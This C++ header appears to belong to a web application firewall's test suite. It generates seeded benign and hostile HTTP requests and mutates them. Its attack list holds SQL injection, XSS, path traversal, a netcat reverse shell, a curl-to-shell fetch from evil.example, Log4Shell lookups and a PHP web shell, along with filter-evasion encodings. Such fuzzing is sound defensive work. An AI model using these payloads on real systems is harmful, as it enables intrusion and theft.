#pragma once
// Requests made up from a seed: what browsers, apps and API clients send, what attackers and scanners send, and what
// nobody should; and changes to given ones. The same seed gives the same requests.

#include <fmt/format.h>

#include <array>
#include <string>
#include <string_view>

#include "codec/base64.h"
#include "waf/differential/traffic_for_tests.h"

namespace gatehouse::waf {

class TrafficGenerator {
 public:
  explicit TrafficGenerator(std::uint64_t seed) : seed_(seed), random_(seed) {}

  Exchange next() {
    hostile_ = random_.one_in(2);
    Exchange exchange;
    exchange.name = fmt::format("generated {} of seed {}", number_++, seed_);
    RawRequest& request = exchange.request;
    request.method = random_.one_in(30) ? random_.of(kOddMethods) : "GET";
    request.protocol = random_.one_in(40) ? random_.of(kProtocols) : "HTTP/1.1";
    request.uri = target();
    headers(request);
    if (random_.one_in(2)) body(request);
    if (random_.one_in(8)) response(exchange.response);
    return exchange;
  }

  // One value: a word, a number, a date …, or what an attacker would put in its place.
  std::string value() { return hostile_ && random_.one_in(3) ? disguised(random_.of(kAttacks)) : plain(); }

 private:
  static constexpr std::array<std::string_view, 24> kWords = {"42",
                                                              "-1.5e3",
                                                              "2026-07-31T12:00:00Z",
                                                              "alice@example.org",
                                                              "7f3c1a9e-55d2-4c6b-9c7e-0a1b2c3d4e5f",
                                                              "Grüße aus Köln",
                                                              "an ordinary sentence, with a comma.",
                                                              "true",
                                                              "",
                                                              "It's 5 o'clock & all is well",
                                                              "price < 10 and size > 3",
                                                              "SELECTed works",
                                                              "O'Reilly",
                                                              "C:\\Users\\alice",
                                                              "https://shop.example/a?b=c",
                                                              "日本語",
                                                              "{\"a\":[1,2]}",
                                                              "<b>bold</b>",
                                                              "50% off",
                                                              "a+b=c",
                                                              "100 OR more",
                                                              "drop me a line",
                                                              "../images/logo.png",
                                                              "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln"};
  static constexpr std::array<std::string_view, 44> kAttacks = {"' OR 1=1 --",
                                                                "1 UNION ALL SELECT NULL,version(),3#",
                                                                "1; DROP TABLE users",
                                                                "admin'/*",
                                                                "1' AND SLEEP(5)='",
                                                                "1 and 1=convert(int,@@version)",
                                                                "<script>alert(1)</script>",
                                                                "\"><img src=x onerror=alert(1)>",
                                                                "javascript:alert(document.cookie)",
                                                                "<svg/onload=confirm`1`>",
                                                                "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">",
                                                                "../../../../etc/passwd",
                                                                "..\\..\\windows\\win.ini",
                                                                "/etc/shadow%00.jpg",
                                                                "php://filter/convert.base64-encode/resource=x",
                                                                "http://169.254.169.254/latest/meta-data/",
                                                                "file:///proc/self/environ",
                                                                "; cat /etc/passwd",
                                                                "| nc -e /bin/sh 10.0.0.1 4444",
                                                                "$(curl http://evil.example/x|sh)",
                                                                "`id`",
                                                                "() { :;}; /bin/bash -c 'id'",
                                                                "&& whoami",
                                                                "cmd.exe /c dir",
                                                                "powershell -enc SQBFAFgA",
                                                                "w'h'o'a'm'i",
                                                                "/b?n/c?t /e*/pa?swd",
                                                                "<?php system($_GET['c']); ?>",
                                                                "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
                                                                "${jndi:ldap://evil.example/a}",
                                                                "${${lower:j}ndi:rmi://x}",
                                                                "java.lang.Runtime.getRuntime().exec('id')",
                                                                "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
                                                                "class.module.classLoader.resources",
                                                                "{{7*7}}",
                                                                "#{7*7}",
                                                                "<%= system('id') %>",
                                                                "{\"$ne\":null}",
                                                                "*)(uid=*))(|(uid=*",
                                                                "x\r\nSet-Cookie: a=b",
                                                                "require('child_process').exec('id')",
                                                                "__proto__[polluted]",
                                                                "document.cookie=\"JSESSIONID=1\"",
                                                                "\xc0\xae\xc0\xae\xc0\xaf"
                                                                "etc\xff\xfe"};
  static constexpr std::array<std::string_view, 16> kNames = {
      "q",      "id",       "user",      "comment", "page", "items[]", "order[lines][0]", "redirect_uri", "file",
      "_token", "callback", "user.name", "a b",     "x-y",  "cmd",     "PHPSESSID"};
  static constexpr std::array<std::string_view, 12> kOddMethods = {
      "HEAD", "OPTIONS", "PUT", "DELETE", "PATCH", "TRACE", "TRACK", "CONNECT", "PROPFIND", "FOO", "get", "DEBUG"};
  static constexpr std::array<std::string_view, 5> kProtocols = {"HTTP/1.0", "HTTP/2", "HTTP/2.0", "HTTP/0.9",
                                                                 "HTTP/3"};
  static constexpr std::array<std::string_view, 14> kPaths = {"/",
                                                              "/index.php",
                                                              "/api/v1/orders/17",
                                                              "/catalogue/books",
                                                              "/.git/config",
                                                              "/wp-login.php",
                                                              "/a/../b/./c//d",
                                                              "/static/app.3f2a.js",
                                                              "/backup.sql",
                                                              "/cgi-bin/test.cgi",
                                                              "/%2e%2e/%2e%2e/etc/passwd",
                                                              "/login;jsessionid=1",
                                                              "/search/",
                                                              "/.env"};
  static constexpr std::array<std::string_view, 8> kAgents = {
      "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
      "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15",
      "curl/8.5.0",
      "okhttp/4.12.0",
      "sqlmap/1.8 (https://sqlmap.org)",
      "Nikto/2.5",
      "python-requests/2.31",
      "masscan/1.3"};
  static constexpr std::array<std::string_view, 16> kTypes = {"application/x-www-form-urlencoded",
                                                              "application/x-www-form-urlencoded; charset=utf-8",
                                                              "APPLICATION/x-www-form-urlencoded",
                                                              "application/json",
                                                              "application/json; charset=utf-8",
                                                              "application/vnd.api+json",
                                                              "text/xml",
                                                              "application/xml",
                                                              "application/soap+xml; charset=utf-16",
                                                              "text/plain",
                                                              "application/octet-stream",
                                                              "multipart/form-data; boundary=x",
                                                              "text/xml; charset=utf-7",
                                                              "application/x-amf",
                                                              "",
                                                              "image/png"};

  std::string plain() {
    std::string text(random_.of(kWords));
    if (random_.one_in(12)) text = std::to_string(random_.below(1u << 30));
    if (random_.one_in(40)) text.append(random_.below(600), 'a');
    if (random_.one_in(40)) text += random_.byte();
    return text;
  }

  // As attackers hide what they send.
  std::string disguised(std::string_view attack) {
    std::string text(attack);
    for (int rounds = 0; rounds < 2; ++rounds) {
      switch (random_.below(14)) {
        case 0: text = percent_encoded(text); break;
        case 1: text = each(text, "%u{:04x}"); break;
        case 2: text = each(text, "&#x{:x};"); break;
        case 3: text = each(text, "\\x{:02x}"); break;
        case 4: text = each(text, "\\u{:04x}"); break;
        case 5: text = codec::base64_encode(text); break;
        case 6:
          for (char& c : text) c = random_.one_in(2) && c >= 'a' && c <= 'z' ? static_cast<char>(c - 32) : c;
          break;
        case 7: {
          std::string spaced;
          for (const char c : text) spaced += c == ' ' ? std::string(random_.of(kBlanks)) : std::string(1, c);
          text = spaced;
          break;
        }
        case 8: text.insert(random_.below(text.size() + 1), 1, '\0'); break;
        case 9: text = plain() + " " + text; break;
        case 10: text += " " + plain(); break;
        default: break;
      }
    }
    return text;
  }
  static constexpr std::array<std::string_view, 6> kBlanks = {"/**/", "\t", "\n", "  ", "+", "\xc2\xa0"};

  std::string each(std::string_view text, const char* form) {
    std::string out;
    for (const char c : text) {
      out += random_.one_in(3) ? fmt::format(fmt::runtime(form), static_cast<unsigned char>(c)) : std::string(1, c);
    }
    return out;
  }

  std::string name() {
    return hostile_ && random_.one_in(12) ? disguised(random_.of(kAttacks)) : std::string(random_.of(kNames));
  }

  std::string form() {
    std::string out;
    for (std::size_t i = random_.below(random_.one_in(30) ? 300 : 8); i > 0; --i) {
      if (!out.empty()) out += random_.one_in(40) ? ";" : "&";
      out += percent_encoded(name(), "[]._-");
      if (!random_.one_in(20)) out += "=";
      out += random_.one_in(8) ? value() : percent_encoded(value(), "-._~");
      if (random_.one_in(50)) out += random_.of(kHalfEscapes);
    }
    return out;
  }
  static constexpr std::array<std::string_view, 6> kHalfEscapes = {"%", "%4", "%zz", "%u00", "%00", "%ff%c0%80"};

  std::string target() {
    std::string path(random_.of(kPaths));
    if (random_.one_in(6)) path += percent_encoded(value(), "/-._~");
    if (random_.one_in(80)) path = "http://shop.example" + path;
    if (random_.one_in(2)) path += "?" + form();
    return head_text(path, false);
  }

  void headers(RawRequest& request) {
    const auto add = [&](std::string_view name, std::string value) {
      request.headers.emplace_back(std::string(name), head_text(value));
    };
    if (!random_.one_in(60)) add("Host", random_.one_in(20) ? "127.0.0.1:8080" : "shop.example");
    if (!random_.one_in(30)) add("User-Agent", std::string(random_.of(kAgents)));
    if (!random_.one_in(30)) add("Accept", random_.one_in(20) ? "" : "text/html,application/json;q=0.9,*/*;q=0.8");
    if (random_.one_in(2)) add("Accept-Language", "en-US,en;q=0.5");
    if (random_.one_in(2)) add("Accept-Encoding", random_.one_in(20) ? value() : "gzip, deflate, br");
    if (random_.one_in(3)) add("Referer", "https://shop.example/" + (random_.one_in(3) ? value() : ""));
    if (random_.one_in(3)) add("Cookie", cookies());
    if (random_.one_in(20)) add("Cookie", cookies());
    if (random_.one_in(8)) add("X-Forwarded-For", random_.one_in(4) ? value() : "203.0.113.7, 10.0.0.1");
    if (random_.one_in(8)) add("Authorization", "Bearer " + value());
    if (random_.one_in(12)) add("Range", random_.one_in(2) ? "bytes=0-1023" : "bytes=1-0,2-5,6-7,8-9,10-11,12-13");
    if (random_.one_in(12)) add("Connection", random_.one_in(2) ? "keep-alive" : "keep-alive, close");
    if (random_.one_in(20)) add("X-" + std::string(random_.of(kNames)), value());
    if (random_.one_in(30)) add(random_.one_in(2) ? "Content-Encoding" : "Expect", value());
    if (random_.one_in(40)) add("X-HTTP-Method-Override", "PUT");
    if (random_.one_in(60)) add("Content-Type", std::string(random_.of(kTypes)));
  }

  std::string cookies() {
    std::string out;
    for (std::size_t i = random_.below(5); i > 0; --i) {
      out += fmt::format("{}{}={}", out.empty() ? "" : "; ", random_.of(kNames),
                         random_.one_in(2) ? value() : percent_encoded(value(), "-._~"));
    }
    return out;
  }

  void body(RawRequest& request) {
    if (request.method == "GET" && !random_.one_in(20)) request.method = "POST";
    std::string type;
    switch (random_.below(6)) {
      case 0:
      case 1:
        type = kTypes[random_.below(3)];
        request.body = form();
        break;
      case 2:
        type = kTypes[3 + random_.below(3)];
        request.body = json(0);
        break;
      case 3:
        type = kTypes[6 + random_.below(3)];
        request.body = "<?xml version=\"1.0\"?>" + xml(0);
        break;
      case 4: multipart(request.body, type); break;
      default: request.body = random_.one_in(2) ? value() : form(); type = random_.of(kTypes);
    }
    if (random_.one_in(25)) type = random_.of(kTypes);
    if (random_.one_in(40)) request.body.resize(random_.below(request.body.size() + 1));
    if (!type.empty()) request.headers.emplace_back("Content-Type", type);
    request.headers.emplace_back("Content-Length", std::to_string(request.body.size()));
  }

  std::string quoted(std::string_view text) {
    std::string out = "\"";
    for (const char c : text) {
      if (c == '"' || c == '\\') {
        out += '\\';
        out += c;
      } else if (static_cast<unsigned char>(c) < 0x20) {
        out += fmt::format("\\u{:04x}", static_cast<unsigned char>(c));
      } else {
        out += c;
      }
    }
    return out + "\"";
  }

  std::string json(int depth) {
    if (depth > 4 || (depth > 0 && random_.one_in(2))) {
      switch (random_.below(6)) {
        case 0: return std::to_string(random_.below(100'000));
        case 1: return random_.one_in(2) ? "true" : "null";
        case 2: return random_.one_in(30) ? "NaN" : "-1.25e+3";
        default: return quoted(value());
      }
    }
    const bool object = random_.one_in(2);
    std::string out = object ? "{" : "[";
    for (std::size_t i = random_.below(5); i > 0; --i) {
      if (object) out += quoted(name()) + ":";
      out += json(depth + 1) + (i > 1 || random_.one_in(60) ? "," : "");
    }
    return out + (object ? "}" : "]");
  }

  std::string xml(int depth) {
    static constexpr std::array<std::string_view, 4> kElements = {"order", "line", "note", "ns:item"};
    const std::string_view element = random_.of(kElements);
    std::string out = fmt::format("<{}", element);
    if (element.starts_with("ns")) out += " xmlns:ns=\"urn:x\"";
    if (random_.one_in(2)) out += fmt::format(" id=\"{}\"", xml_text(value()));
    out += ">";
    for (std::size_t i = depth > 4 ? 0 : random_.below(4); i > 0; --i) out += xml(depth + 1);
    if (random_.one_in(2)) out += random_.one_in(10) ? "<![CDATA[" + value() + "]]>" : xml_text(value());
    if (random_.one_in(30)) out += "<!-- " + value() + " -->";
    return out + fmt::format("</{}>", random_.one_in(100) ? "x" : element);
  }
  std::string xml_text(std::string_view text) {
    std::string out;
    for (const char c : text) {
      if (c == '<')
        out += "&lt;";
      else if (c == '&')
        out += "&amp;";
      else if (c == '"')
        out += "&quot;";
      else if (static_cast<unsigned char>(c) >= 0x20)
        out += c;
    }
    return out;
  }

  void multipart(std::string& body, std::string& type) {
    const std::string boundary = random_.one_in(10) ? "x" : "----WebKitFormBoundary7MA4YWxkTrZu0gW";
    type = "multipart/form-data; boundary=" + (random_.one_in(10) ? "\"" + boundary + "\"" : boundary);
    const std::string end = random_.one_in(20) ? "\n" : "\r\n";
    if (random_.one_in(40)) body += "before" + end;
    for (std::size_t i = random_.below(5); i > 0; --i) {
      body += "--" + boundary + end + "Content-Disposition: form-data; name=\"" + head_text(name()) + "\"";
      if (random_.one_in(3)) body += "; filename=\"" + head_text(random_.one_in(2) ? value() : "photo.jpg") + "\"";
      body += end;
      if (random_.one_in(3)) body += "Content-Type: " + head_text(random_.one_in(4) ? value() : "image/jpeg") + end;
      if (random_.one_in(20)) body += "X-Odd:" + end + " folded" + end;
      body += end + value() + end;
    }
    body += "--" + boundary + (random_.one_in(30) ? "" : "--") + end;
    if (random_.one_in(40)) body += "after";
  }

  void response(RawResponse& response) {
    static constexpr std::array<std::string_view, 6> kLeaks = {
        "<html><body>all is well</body></html>",
        "You have an error in your SQL syntax; check the manual that corresponds to your MySQL server",
        "ORA-00933: SQL command not properly ended",
        "Fatal error: Uncaught Exception in /var/www/index.php on line 3",
        "<title>Index of /</title>",
        "<?php echo 1; ?> stack trace: at java.lang.Thread.run(Thread.java:748)"};
    response.status = random_.one_in(3) ? 500 : 200;
    response.headers.emplace_back("Content-Type", random_.one_in(4) ? "text/plain" : "text/html; charset=utf-8");
    response.body = random_.of(kLeaks);
    if (random_.one_in(3)) response.body += value();
  }

  std::uint64_t seed_;
  Random random_;
  std::size_t number_ = 0;
  bool hostile_ = false;
};

// Changes one to four things about a request: bytes of the target, of a header, of the body.
class TrafficMutator {
 public:
  explicit TrafficMutator(std::uint64_t seed) : random_(seed) {}

  void change(RawRequest& request) {
    for (std::size_t times = 1 + random_.below(4); times > 0; --times) {
      switch (random_.below(8)) {
        case 0:
        case 1:
          change(request.uri);
          request.uri = head_text(request.uri, false);
          break;
        case 2:
        case 3:
          if (request.headers.empty()) break;
          {
            auto& [name, value] = request.headers[random_.below(request.headers.size())];
            change(random_.one_in(8) ? name : value);
            name = head_text(name, false);
            value = head_text(value);
          }
          break;
        case 4:
          if (request.headers.empty()) break;
          request.headers.push_back(random_.of(request.headers));
          break;
        default: change(request.body);
      }
    }
    if (request.uri.empty()) request.uri = "/";
    if (!random_.one_in(10)) set_length(request);
  }

 private:
  void change(std::string& text) {
    static constexpr std::array<std::string_view, 32> kBits = {
        "'",   "\"",   "<",  ">",  ";", "%00", "%",    "%u0027",   "\\",           "/*", "*/",
        "--",  "#",    "&",  "=",  "(", ")",   "\xff", "\xc0\xa7", "\xe2\x80\xa8", "`",  "${",
        "../", "\r\n", "\t", "[]", "{", "}",   "+or+", "script",   "&#39;",        "|"};
    const std::size_t at = random_.below(text.size() + 1);
    const std::size_t size = std::min<std::size_t>(random_.below(12), text.size() - at);
    switch (random_.below(7)) {
      case 0: text.insert(at, random_.of(kBits)); break;
      case 1: text.erase(at, size); break;
      case 2: text.insert(at, text.substr(random_.below(text.size() + 1), random_.below(20))); break;
      case 3:
        if (at < text.size()) text[at] = static_cast<char>(text[at] ^ (1 << random_.below(8)));
        break;
      case 4:
        if (at < text.size()) text[at] = random_.byte();
        break;
      case 5: text.replace(at, size, random_.of(kBits)); break;
      default: text.insert(at, text.substr(at, size)); break;
    }
  }

  Random random_;
};

}  // namespace gatehouse::waf
